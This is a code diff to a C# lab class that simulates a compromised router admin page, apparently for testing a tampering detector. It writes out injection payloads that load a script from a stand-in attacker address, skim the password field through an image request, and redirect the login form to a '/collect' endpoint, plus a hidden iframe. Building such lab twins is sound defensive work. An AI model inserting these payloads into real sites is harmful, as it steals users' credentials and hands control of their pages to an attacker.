@@ -9,6 +9,7 @@ using Microsoft.AspNetCore.Hosting.Server.Features;
 using Microsoft.AspNetCore.Http;
 using Microsoft.Extensions.DependencyInjection;
 using Microsoft.Extensions.Logging;
+using FlaxGuard.Lab.Twins;
 
 namespace FlaxGuard.Lab;
 
@@ -18,15 +19,28 @@ namespace FlaxGuard.Lab;
 /// <see cref="CompromiseAsync"/> does what a botnet implant does to such a device: it tampers with the
 /// web interface script and opens a telnet port.
 /// </summary>
-public sealed class LabWebDevice : IAsyncDisposable
+/// <para>
+/// It is also the "web" lab twin (<see cref="ILabTwin"/>) of issue 13's page tampering: its login page writes a
+/// config script with a per-visit CSRF token, CSP nonce and timestamp (churn the checker must ignore), and
+/// <see cref="Apply"/> injects an inline script, a script or an iframe from another site, or points the login
+/// form at another site, as attackers do to camera and router admin pages.
+/// </para>
+public sealed class LabWebDevice : ILabTwin
 {
     public const int DefaultTelnetPort = 2323;
     private const string CleanScript = "// Lab router admin UI 2.1.7\nfunction login(f){ return f.user.value.length > 0; }\n";
     private const string InjectedScript = "\n;(function(){var s=document.createElement('script');s.src='http://203.0.113.66/x.js';document.head.appendChild(s);})();\n";
     private const string Stylesheet = "body{font-family:sans-serif;background:#f4f4f4}form{margin:4em auto;width:20em}\n";
 
+    /// <summary>Where injected content comes from (RFC 5737 documentation address; never contacted).</summary>
+    public const string AttackerHost = "203.0.113.66";
+
     private readonly WebApplication _app;
+    private readonly object _gate = new();
     private volatile string _script = CleanScript;
+    private readonly HashSet<string> _applied = [];
+    private TimeSpan _clockOffset;
+    private DateTimeOffset _boot = DateTimeOffset.UtcNow.AddHours(-50);
     private LabTelnetListener? _telnet;
 
     private LabWebDevice(WebApplication app, IPAddress address, byte[] certificateSha256)
@@ -95,6 +109,44 @@ public sealed class LabWebDevice : IAsyncDisposable
         Compromised = false;
     }
 
+    public string Profile => "web";
+
+    public Uri BaseUri => new($"http://{(Address.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6 ? "[" + Address + "]" : Address.ToString())}:{HttpPort}/");
+
+    public IReadOnlyList<string> SupportedChanges { get; } =
+        [.. TwinChanges.WebCompromises, TwinChanges.Reboot, TwinChanges.Time, TwinChanges.Session, TwinChanges.Reorder, TwinChanges.WhitespaceCase];
+
+    public void Apply(string change)
+    {
+        if (!SupportedChanges.Contains(change)) throw new NotSupportedException($"the lab web device has no change named '{change}'");
+        lock (_gate)
+        {
+            switch (change)
+            {
+                case TwinChanges.Time:
+                    _clockOffset += TimeSpan.FromHours(7) + TimeSpan.FromSeconds(13);
+                    break;
+                case TwinChanges.Reboot:
+                    _boot = DateTimeOffset.UtcNow;
+                    break;
+                default:
+                    _applied.Add(change);
+                    break;
+            }
+        }
+    }
+
+    public void Reset()
+    {
+        lock (_gate)
+        {
+            _applied.Clear();
+            _clockOffset = TimeSpan.Zero;
+            _boot = DateTimeOffset.UtcNow.AddHours(-50);
+        }
+        _script = CleanScript;
+    }
+
     public async ValueTask DisposeAsync()
     {
         if (_telnet is not null) await _telnet.DisposeAsync();
@@ -113,16 +165,46 @@ public sealed class LabWebDevice : IAsyncDisposable
         {
             // A fresh session id on every visit: exactly the kind of value drift detection must not report.
             context.Response.Headers.SetCookie = "sid=" + Convert.ToHexString(RandomNumberGenerator.GetBytes(8)) + "; HttpOnly";
-            return Results.Content(LoginPage, "text/html; charset=utf-8");
+            return Results.Content(LoginPage(), "text/html; charset=utf-8");
         });
         _app.MapGet("/js/app.js", () => Results.Text(_script, "application/javascript", Encoding.UTF8));
         _app.MapGet("/css/style.css", () => Results.Text(Stylesheet, "text/css", Encoding.UTF8));
     }
 
-    private static readonly string LoginPage =
-        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n<title>Lab Router AX1800 &amp; Wi-Fi - Login</title>\n" +
-        "<link rel=\"stylesheet\" href=\"/css/style.css\">\n<script src=\"/js/app.js\"></script>\n</head>\n" +
-        "<body><form onsubmit=\"return login(this)\"><input name=\"user\"><input name=\"pass\" type=\"password\"><button>Log in</button></form></body></html>\n";
+    /// <summary>
+    /// The login page as served now: a per-visit CSRF token (base64), CSP nonce (hex), the clock and the uptime in the
+    /// config script change on every load; the applied changes add what an intruder injects.
+    /// </summary>
+    private string LoginPage()
+    {
+        HashSet<string> applied;
+        DateTimeOffset now, boot;
+        lock (_gate)
+        {
+            applied = [.. _applied];
+            now = DateTimeOffset.UtcNow + _clockOffset;
+            boot = _boot;
+        }
+        var nonce = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16));
+        var csrf = Convert.ToBase64String(RandomNumberGenerator.GetBytes(24));
+        bool sloppy = applied.Contains(TwinChanges.WhitespaceCase);
+        string Tag(string name) => sloppy ? name.ToUpperInvariant() : name;
+        string nl = sloppy ? "\r\n\t  " : "\n";
+        var config = $"<{Tag("script")} nonce=\"{nonce}\">{nl}  window.labConfig = {{ csrf: \"{csrf}\", now: {now.ToUnixTimeMilliseconds()}, " +
+                     $"stamp: \"{now.UtcDateTime:yyyy-MM-ddTHH:mm:ssZ}\", uptime: {(long)(DateTimeOffset.UtcNow - boot).TotalSeconds}, model: \"AX1800\" }};{nl}</{Tag("script")}>";
+        var theme = $"<{Tag("script")}>{nl}document.documentElement.className = 'js';{nl}</{Tag("script")}>";
+        var scripts = new List<string> { config, theme };
+        if (applied.Contains(TwinChanges.InlineScript))
+            scripts.Add($"<script>document.addEventListener('submit', function (e) {{ new Image().src = '/favicon.ico?' + btoa(e.target.pass.value); }});</script>");
+        if (applied.Contains(TwinChanges.ExternalScript)) scripts.Add($"<script src=\"http://{AttackerHost}/x.js\"></script>");
+        if (applied.Contains(TwinChanges.Reorder)) scripts.Reverse();
+        var action = applied.Contains(TwinChanges.FormHijack) ? $" action=\"https://{AttackerHost}/collect\" method=\"post\"" : " action=\"/login\" method=\"post\"";
+        var frame = applied.Contains(TwinChanges.ExternalFrame) ? $"<iframe src=\"https://{AttackerHost}/ad\" width=\"0\" height=\"0\" style=\"display:none\"></iframe>" : "";
+        return $"<!DOCTYPE html>{nl}<{Tag("html")}><{Tag("head")}><meta charset=\"utf-8\">{nl}<{Tag("title")}>Lab Router AX1800 &amp; Wi-Fi - Login</{Tag("title")}>{nl}" +
+               $"<link rel=\"stylesheet\" href=\"/css/style.css\">{nl}<{Tag("script")} src=\"/js/app.js\"></{Tag("script")}>{nl}{string.Join(nl, scripts)}{nl}</{Tag("head")}>{nl}" +
+               $"<{Tag("body")}><{Tag("form")}{action} onsubmit=\"return login(this)\"><input name=\"user\"><input name=\"csrf\" type=\"hidden\" value=\"{csrf}\">" +
+               $"<input name=\"pass\" type=\"password\"><button>Log in</button></{Tag("form")}>{frame}</{Tag("body")}></{Tag("html")}>\n";
+    }
 
     private static X509Certificate2 CreateCertificate()
     {
